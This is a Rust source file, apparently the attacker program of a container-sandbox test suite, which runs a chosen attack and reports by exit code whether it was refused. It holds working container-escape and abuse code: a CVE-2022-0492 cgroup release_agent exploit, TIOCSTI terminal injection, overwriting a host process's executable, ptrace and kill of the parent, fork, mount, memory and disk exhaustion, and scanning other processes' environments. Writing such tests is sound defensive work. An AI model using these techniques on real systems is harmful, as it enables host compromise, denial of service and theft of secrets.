//! The attacker: this very program, told by a variable what to try. It runs in a container, as a program that somebody
//! hostile brought along, so it starts before the test harness does. What it achieves it says with its exit status.

use std::ffi::{CString, c_int, c_long, c_void};
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::os::unix::net::{UnixListener, UnixStream};

use std::ptr::null_mut;

use rustix::fs::{CWD, RenameFlags, renameat_with};
use rustix::mount::{MountFlags, mount};

/// The variable with the order: its first word, and what that needs.
pub const ORDER: &str = "CONTAIN_TEST_ATTACK";
/// What it ends with where it got what it wanted, and where that was refused.
pub const GOT: i32 = 0;
pub const REFUSED: i32 = 77;

#[used]
#[unsafe(link_section = ".init_array")]
static BEFORE_ALL: extern "C" fn() = before_all;

extern "C" fn before_all() {
    if let Ok(order) = std::env::var(ORDER) {
        let words: Vec<&str> = order.split(' ').collect();
        let got = obey(words[0], &words[1..]);
        std::process::exit(if got { GOT } else { REFUSED });
    }
}

fn obey(order: &str, words: &[&str]) -> bool {
    let number = |at: usize| words[at].parse::<usize>().unwrap();
    match order {
        "swap" => swap(words[0], words[1]),
        "cwd" => !rustix::process::getcwd(Vec::new()).is_ok_and(|cwd| cwd.to_bytes().starts_with(b"/")),
        "push" => push(words[0]),
        "mounts" => mounts(number(0)),
        "user-mounts" => unshare(0x1002_0000) && mounts(number(0)),
        "forks" => forks(number(0)),
        "memory" => memory(number(0)),
        "files" => files(number(0)),
        "fill" => fill(words[0], number(1)),
        "write-all" => write_all(words),
        // Without a parent in sight it is 0, which means others to the kernel.
        "kill-parent" => parent() != 0 && kill(parent(), 9),
        "kill-all" => kill_all(),
        "trace-parent" => trace(parent()),
        "release-agent" => release_agent(words[0], words[1], words[2]),
        "keep-exe" => keep_exe(words[0]),
        "give-exe" => give_exe(words[0]),
        "overwrite" => overwrite(words[0]),
        "look" => look(words[0]),
        "forget-groups" => rustix::thread::set_thread_groups(&[]).is_ok() && fs::read(words[0]).is_ok(),
        "read" => fs::read(words[0]).is_ok_and(|text| !text.is_empty()),
        _ => panic!("unknown order {order}"),
    }
}

unsafe extern "C" {
    #[link_name = "kill"]
    safe fn kill_it(pid: c_int, signal: c_int) -> c_int;
    #[link_name = "unshare"]
    safe fn unshare_it(flags: c_int) -> c_int;
    safe fn fork() -> c_int;
    safe fn pause() -> c_int;
    fn ioctl(descriptor: c_int, request: std::ffi::c_ulong, ...) -> c_int;
    fn ptrace(request: c_int, pid: c_int, address: *mut c_void, data: *mut c_void) -> c_long;
}

/// Exchanges two names for ever.
fn swap(one: &str, other: &str) -> bool {
    while renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE).is_ok() {
        breathe();
    }
    panic!("{one} and {other} cannot be exchanged");
}

/// On a machine of one CPU, who never rests takes half of it from those that he attacks.
fn breathe() {
    std::thread::sleep(std::time::Duration::from_micros(50));
}

/// Types into the terminal that is the standard input (TIOCSTI).
fn push(text: &str) -> bool {
    const TIOCSTI: std::ffi::c_ulong = 0x5412;
    // SAFETY: the kernel reads one byte.
    text.bytes().all(|byte| unsafe { ioctl(0, TIOCSTI, &raw const byte) } == 0)
}

fn unshare(flags: c_int) -> bool {
    unshare_it(flags) == 0
}

/// As many mounts as that, one on the other.
fn mounts(count: usize) -> bool {
    (0..count).all(|_| mount(c"bomb", c"/mnt", c"tmpfs", MountFlags::empty(), None).is_ok())
}

/// As many processes as that at a time.
fn forks(count: usize) -> bool {
    let mut children = Vec::new();
    while children.len() < count {
        match fork() {
            0 => loop {
                pause();
            },
            -1 => break,
            pid => children.push(pid),
        }
    }
    let all = children.len() == count;
    children.into_iter().for_each(|pid| assert!(kill(pid, 9)));
    all
}

fn kill(pid: c_int, signal: c_int) -> bool {
    kill_it(pid, signal) == 0
}

/// As many megabytes as that, each page of them.
fn memory(megabytes: usize) -> bool {
    let mut all = Vec::new();
    for _ in 0..megabytes {
        all.push(vec![1u8; 1 << 20]);
    }
    std::hint::black_box(&all);
    true
}

fn files(count: usize) -> bool {
    let all: Vec<File> = (0..count).map_while(|_| File::open("/dev/null").ok()).collect();
    all.len() == count
}

/// As many kilobytes as that in a file.
fn fill(path: &str, kilobytes: usize) -> bool {
    let mut file = File::create(path).unwrap();
    (0..kilobytes.div_ceil(64)).all(|_| file.write_all(&[1; 1 << 16]).is_ok())
}

/// Opens every file below these directories for writing, and writes what it reads. Says which ones let it.
fn write_all(directories: &[&str]) -> bool {
    let mut left: Vec<std::path::PathBuf> = directories.iter().map(|path| path.into()).collect();
    let mut written = 0;
    while let Some(path) = left.pop() {
        let Ok(meta) = fs::symlink_metadata(&path) else { continue };
        if meta.is_dir() {
            left.extend(fs::read_dir(&path).into_iter().flatten().flatten().map(|entry| entry.path()));
        } else if meta.is_file() {
            let Ok(mut file) = OpenOptions::new().write(true).open(&path) else { continue };
            // What cannot be read at once is not written to: it may be an order to the kernel.
            let mut text = vec![0; 4096];
            let nonblocking = OpenOptions::new().read(true).custom_flags(0o4000).open(&path);
            let Ok(count) = nonblocking.and_then(|mut file| file.read(&mut text)) else { continue };
            if count > 0 && file.write_all(&text[..count]).is_ok() {
                println!("{}", path.display());
                written += 1;
            }
        }
    }
    written > 0
}

/// Every process in sight; but if that is more than a container's own, it is not done.
fn kill_all() -> bool {
    if fs::read_link("/proc/1/exe").is_ok_and(|exe| exe.ends_with("attacker")) || std::process::id() > 20 {
        return std::process::id() != 1;
    }
    kill(-1, 9)
}

fn parent() -> c_int {
    rustix::process::getppid().map_or(0, |pid| pid.as_raw_nonzero().get())
}

fn trace(pid: c_int) -> bool {
    // SAFETY: PTRACE_SEIZE takes no addresses.
    unsafe { ptrace(0x4206, pid, null_mut(), null_mut()) == 0 }
}

/// CVE-2022-0492: the kernel runs the program that a v1 hierarchy names when a group of it becomes empty, as the host's
/// root, in the host's namespaces.
fn release_agent(controller: &str, agent: &str, canary: &str) -> bool {
    let options = CString::new(controller).unwrap();
    if mount(c"cgroup", c"/mnt", c"cgroup", MountFlags::empty(), Some(options.as_c_str())).is_err() {
        return false;
    }
    let before = fs::read("/mnt/release_agent").unwrap_or_default();
    let own = format!("/mnt/attack-{}", std::process::id());
    let tried = fs::create_dir(&own)
        .and_then(|()| fs::write(format!("{own}/notify_on_release"), "1"))
        .and_then(|()| fs::write("/mnt/release_agent", agent))
        .and_then(|()| fs::write(format!("{own}/cgroup.procs"), "0"))
        .and_then(|()| fs::write("/mnt/cgroup.procs", "0"));
    let ran = tried.is_ok()
        && (0..500).any(|_| {
            std::thread::sleep(std::time::Duration::from_millis(10));
            fs::read(canary).is_ok_and(|text| text == b"owned")
        });
    let _as_before = (fs::write("/mnt/release_agent", before), fs::remove_dir(own));
    ran
}

/// Opens a process's program and, once nobody executes it any more, writes into it.
fn overwrite(path: &str) -> bool {
    println!("ready");
    let own = fs::canonicalize("/proc/self/exe").unwrap();
    loop {
        let all = fs::read_dir("/proc").unwrap().flatten().map(|entry| entry.path().join("exe"));
        for exe in all.filter(|exe| fs::read_link(exe).is_ok_and(|name| name != own && !name.ends_with("busybox"))) {
            if let Ok(file) = File::open(&exe) {
                fs::write(
                    path,
                    fs::read_link(format!("/proc/self/fd/{}", file.as_raw_fd()))
                        .unwrap()
                        .as_os_str()
                        .as_encoded_bytes(),
                )
                .unwrap();
                return write_over(&file);
            }
        }
    }
}

fn write_over(file: &File) -> bool {
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    for _ in 0..1000 {
        match OpenOptions::new().write(true).open(&path) {
            Ok(mut file) => return file.write_all(b"owned").is_ok(),
            // ETXTBSY
            Err(why) if why.raw_os_error() == Some(26) => std::thread::sleep(std::time::Duration::from_millis(5)),
            Err(_) => return false,
        }
    }
    false
}

/// Waits at a socket for a descriptor of another's program, and for that one's end, and writes into the program.
fn keep_exe(socket: &str) -> bool {
    let listener = UnixListener::bind(socket).unwrap();
    fs::set_permissions(socket, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
    println!("ready");
    let (stream, _) = listener.accept().unwrap();
    let mut space = [std::mem::MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut control = rustix::net::RecvAncillaryBuffer::new(&mut space);
    let mut byte = [0];
    let parts = &mut [std::io::IoSliceMut::new(&mut byte)];
    rustix::net::recvmsg(&stream, parts, &mut control, rustix::net::RecvFlags::empty()).unwrap();
    let file = control.drain().find_map(|message| match message {
        rustix::net::RecvAncillaryMessage::ScmRights(mut all) => all.next(),
        _ => None,
    });
    file.is_some_and(|file| write_over(&file.into()))
}

/// Sends the program of the container's first process there.
fn give_exe(socket: &str) -> bool {
    let Ok(file) = File::open("/proc/1/exe") else { return false };
    let stream = UnixStream::connect(socket).unwrap();
    let mut space = [std::mem::MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut control = rustix::net::SendAncillaryBuffer::new(&mut space);
    let all = [std::os::fd::AsFd::as_fd(&file)];
    control.push(rustix::net::SendAncillaryMessage::ScmRights(&all));
    rustix::net::sendmsg(&stream, &[std::io::IoSlice::new(b"x")], &mut control, rustix::net::SendFlags::empty()).is_ok()
}

/// Looks into every process that comes by, for a text in its environment; in capitals, which its own does not have.
fn look(text: &str) -> bool {
    println!("ready");
    let text = text.to_uppercase();
    let own = std::process::id().to_string();
    loop {
        breathe();
        for entry in fs::read_dir("/proc").unwrap().flatten() {
            let is_process = entry.file_name().to_str().is_some_and(|name| name != own && name.parse::<u32>().is_ok());
            let environ = entry.path().join("environ");
            if is_process && fs::read(environ).is_ok_and(|all| String::from_utf8_lossy(&all).contains(&text)) {
                println!("seen");
                return true;
            }
        }
    }
}
